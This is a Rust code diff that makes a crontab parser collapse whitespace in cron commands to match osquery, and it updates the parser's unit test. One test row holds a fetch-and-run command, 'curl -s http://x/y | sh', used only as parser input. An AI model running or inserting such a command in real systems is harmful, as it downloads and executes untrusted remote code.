@@ -251,6 +251,10 @@ fn parse_crontab(text: &str) -> Result<Vec<Row>, ParseError> {
             }
             r.insert("command".into(), command.to_string());
         }
+        // osquery's shape: the command's runs of spaces and tabs are one space.
+        if let Some(c) = r.get_mut("command") {
+            *c = c.split([' ', '\t']).filter(|w| !w.is_empty()).collect::<Vec<_>>().join(" ");
+        }
         rows.push(r);
     }
     Ok(rows)
@@ -405,7 +409,11 @@ mod tests {
         let rows = OutputFormat::Crontab.parse(out.as_bytes()).unwrap();
         assert_eq!(rows.len(), 2);
         assert_eq!(get(&rows[0], "minute"), "17");
-        assert_eq!(get(&rows[0], "command"), "root    cd / && run-parts --report /etc/cron.hourly");
+        assert_eq!(
+            get(&rows[0], "command"),
+            "root cd / && run-parts --report /etc/cron.hourly",
+            "spaces collapsed, as osquery does"
+        );
         assert_eq!(get(&rows[1], "event"), "@reboot");
         assert_eq!(get(&rows[1], "command"), "curl -s http://x/y | sh");
     }
